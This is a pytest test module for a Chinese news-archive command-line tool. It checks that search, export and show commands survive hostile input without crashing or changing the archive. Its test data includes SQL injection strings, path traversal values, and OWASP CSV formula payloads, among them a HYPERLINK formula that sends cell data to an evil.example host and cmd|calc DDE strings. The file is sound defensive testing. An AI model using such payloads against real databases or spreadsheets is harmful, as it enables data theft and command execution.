"""Hostile input to the commands: SQL and FTS syntax in queries, odd filters, odd paths.

Every case must end in results or a clear ``error:`` message with a non-zero exit code, never
a traceback, and must leave the archive byte-for-byte unchanged. CSV cells that a spreadsheet
would run as a formula come out neutralised.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from reliability_helpers import file_digest, integrity, synthetic_article

from newsarchive.cli import main
from newsarchive.exitcodes import ExitCode
from newsarchive.records import Article, Credit, PageItem
from newsarchive.store import Store

#: Values a spreadsheet would run as a formula (OWASP's CSV injection list).
FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_item(n: int, formula: str) -> PageItem:
    item = synthetic_article(n)
    article = item.result
    assert isinstance(article, Article)
    article = dataclasses.replace(
        article,
        headline=formula,
        source=formula,
        subtitle=formula,
        keywords=(formula,),
        credits=(Credit(role="记者", name=formula), Credit(role="责任编辑", name="王五")),
        reporters=(formula,),
    )
    return dataclasses.replace(item, result=article)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "archive.db"
    with Store(db) as store:
        run = store.start_run("reliability")
        for n in range(6):
            store.store_item(synthetic_article(n), run_id=run)
        for n, formula in enumerate(FORMULAS, start=100):
            store.store_item(hostile_item(n, formula), run_id=run)
        store.finish_run(run, exit_status="finished")
    return db


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=True)


def assert_clean(result: Result, allowed: tuple[int, ...]) -> None:
    """Results or a clear error: an allowed exit code, no traceback, an ``error:`` message
    (or click's usage error) when it failed."""
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"uncaught {result.exception!r}\n{result.output}")
    assert result.exit_code in allowed, (result.exit_code, result.output, result.stderr)
    assert "Traceback" not in result.output + result.stderr
    if result.exit_code != 0:
        message = result.stderr.strip()
        assert message.startswith("error:") or "Error:" in message, message
        assert len(message) < 2000


SQL_QUERIES = (
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    "乡村公路' OR '1'='1",
    "1); DELETE FROM articles; --",
    "x UNION SELECT sql FROM sqlite_master --",
    "articles_fts MATCH '*'",
    "headline:公路",
    "{headline body}: 公路",
    "NEAR(公路 通车, 2)",
    "公路*",
    "*",
    "^公路",
    '"unbalanced',
    "(((",
    ")",
    "AND",
    "OR OR OR",
    "NOT",
    "-",
    "--",
    "-公路",
    "公路 -",
    "\x00公路",
    "公路\x00; DROP TABLE articles",
    "🙂",
    "",
    "   ",
    "%",
    "_",
    "公" * 5000,
    "a" * 100_000,
)


@pytest.mark.parametrize("query", SQL_QUERIES, ids=range(len(SQL_QUERIES)))
def test_sql_and_fts_syntax_in_search_is_data_or_a_clear_error(archive: Path, query: str) -> None:
    before = file_digest(archive)
    for fmt in ("table", "json"):
        result = run("search", query, "--db", str(archive), "--format", fmt)
        assert_clean(result, (ExitCode.OK, ExitCode.USAGE))
        if fmt == "json" and result.exit_code == 0:
            hits = json.loads(result.stdout)
            assert len(hits) <= 20
    assert file_digest(archive) == before
    assert integrity(archive) == "ok"


def test_injection_does_not_widen_a_search(archive: Path) -> None:
    exact = json.loads(run("search", "乡村公路", "--db", str(archive), "--format", "json").stdout)
    assert len(exact) > 0
    for query in ("乡村公路' OR '1'='1", '乡村公路" OR "1"="1'):
        result = run("search", query, "--db", str(archive), "--format", "json", "--limit", "100")
        assert_clean(result, (ExitCode.OK, ExitCode.USAGE))
        if result.exit_code == 0:
            assert len(json.loads(result.stdout)) <= len(exact)


ODD_FILTERS = (
    ("--since", "2024-01-01'; DROP TABLE articles; --"),
    ("--since", "2024-13-45"),
    ("--since", "99999"),
    ("--since", "yesterday"),
    ("--until", "0000-00-00"),
    ("--until", "2024-02-30"),
    ("--channel", "gz' OR '1'='1"),
    ("--channel", "../../etc"),
    ("--channel", ""),
    ("--source", "' OR 1=1 --"),
    ("--source", "%"),
    ("--reporter", "%"),
    ("--reporter", "_"),
    ("--reporter", "' OR ''='"),
    ("--limit", "-1"),
    ("--limit", "0"),
    ("--limit", "99999999999999999999999"),
    ("--limit", "ten"),
)


@pytest.mark.parametrize(("option", "value"), ODD_FILTERS, ids=range(len(ODD_FILTERS)))
def test_odd_filters_are_values_or_a_clear_error(archive: Path, option: str, value: str) -> None:
    before = file_digest(archive)
    result = run("search", "乡村公路", "--db", str(archive), "--format", "json", option, value)
    assert_clean(result, (ExitCode.OK, ExitCode.USAGE))
    if result.exit_code == 0 and option in ("--reporter", "--source", "--channel"):
        # A LIKE wildcard or a quote is a literal value: it matches no article here.
        assert json.loads(result.stdout) == []
    exported = run("export", "--db", str(archive), "--format", "jsonl", option, value)
    assert_clean(exported, (ExitCode.OK, ExitCode.USAGE))
    assert file_digest(archive) == before


ODD_COLUMNS = (
    "headline; DROP TABLE articles",
    "*",
    "(SELECT group_concat(sql) FROM sqlite_master)",
    "headline,headline",
    "headline AS x",
    "no_such_column",
    ",,,",
)


@pytest.mark.parametrize("columns", ODD_COLUMNS, ids=range(len(ODD_COLUMNS)))
def test_export_columns_are_names_not_sql(archive: Path, columns: str) -> None:
    before = file_digest(archive)
    result = run("export", "--db", str(archive), "--columns", columns)
    assert_clean(result, (ExitCode.OK, ExitCode.USAGE))
    assert "CREATE TABLE" not in result.stdout
    assert file_digest(archive) == before


ODD_REFS = (
    "1 OR 1=1",
    "'",
    "-1",
    "0",
    "99999999999999999999999",
    "http://[::1",
    "%",
    "",
)


@pytest.mark.parametrize("ref", ODD_REFS, ids=range(len(ODD_REFS)))
def test_show_odd_references(archive: Path, ref: str) -> None:
    result = run("show", ref, "--db", str(archive))
    assert_clean(result, (ExitCode.FAILURE, ExitCode.USAGE))


def test_odd_archive_paths_are_clear_errors(tmp_path: Path, archive: Path) -> None:
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"\x00not sqlite at all\xff" * 100)
    empty_sqlite = tmp_path / "other.db"
    sqlite3.connect(str(empty_sqlite)).execute("CREATE TABLE t(x)").connection.close()
    for db in (tmp_path / "missing.db", tmp_path, garbage, empty_sqlite, Path("/dev/null")):
        for args in (("search", "公路"), ("stats",), ("export",), ("show", "1")):
            result = run(*args, "--db", str(db))
            assert_clean(result, (ExitCode.FAILURE, ExitCode.USAGE))
    assert garbage.read_bytes() == b"\x00not sqlite at all\xff" * 100


def test_export_to_an_unwritable_place_is_a_clear_error(tmp_path: Path, archive: Path) -> None:
    for out in (tmp_path / "no" / "such" / "dir" / "x.csv", tmp_path):
        result = run("export", "--db", str(archive), "--out", str(out))
        assert_clean(result, (ExitCode.FAILURE, ExitCode.USAGE))
        assert result.exit_code != 0


def test_export_never_overwrites_the_archive(tmp_path: Path, archive: Path) -> None:
    db = tmp_path / "archive.db"
    db.write_bytes(archive.read_bytes())
    before = file_digest(db)
    result = run("export", "--db", str(db), "--out", str(db))
    assert result.exit_code != 0
    assert file_digest(db) == before


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Text cells a spreadsheet would run (numbers such as a negative score are numbers)."""
    starts = ("=", "+", "-", "@", "\t", "\r")
    return [c for row in rows[1:] for c in row if c.startswith(starts) and not _is_number(c)]


@pytest.mark.parametrize("table", ["articles", "credits", "sections"])
def test_csv_export_neutralises_formulas(archive: Path, table: str) -> None:
    result = run("export", "--db", str(archive), "--table", table, "--excel", "--include-body")
    assert_clean(result, (ExitCode.OK,))
    rows = _cells(result.stdout)
    assert _formula_cells(rows) == []
    text = "\n".join(",".join(r) for r in rows)
    if table != "sections":
        assert "'=HYPERLINK(" in text  # kept, as text
        assert "'@SUM(1+1)" in text


def test_search_csv_neutralises_formulas(archive: Path) -> None:
    result = run("search", "乡村公路", "--db", str(archive), "--format", "csv", "--limit", "100")
    assert_clean(result, (ExitCode.OK,))
    rows = _cells(result.stdout)
    assert len(rows) > 1
    assert _formula_cells(rows) == []


def test_jsonl_export_keeps_values_exactly(archive: Path) -> None:
    result = run("export", "--db", str(archive), "--format", "jsonl")
    assert_clean(result, (ExitCode.OK,))
    headlines = {json.loads(line)["headline"] for line in result.stdout.splitlines()}
    assert set(FORMULAS) <= headlines
